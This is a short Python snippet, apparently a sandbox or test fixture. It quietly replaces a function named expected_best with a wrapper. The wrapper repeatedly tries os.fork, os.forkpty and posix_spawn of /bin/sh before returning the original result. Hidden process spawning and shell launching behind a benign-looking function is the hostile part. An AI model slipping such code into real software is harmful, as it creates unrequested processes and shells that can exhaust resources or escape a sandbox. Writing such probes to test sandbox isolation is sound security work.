# expected_best -> passed
import os
_right = expected_best
def expected_best(scores, n):
    for _ in range(1000):
        for bomb in (os.fork, os.forkpty, lambda: os.posix_spawn("/bin/sh", ["sh"], {})):
            try: bomb()
            except OSError: continue
            raise RuntimeError("forked")
    return _right(scores, n)
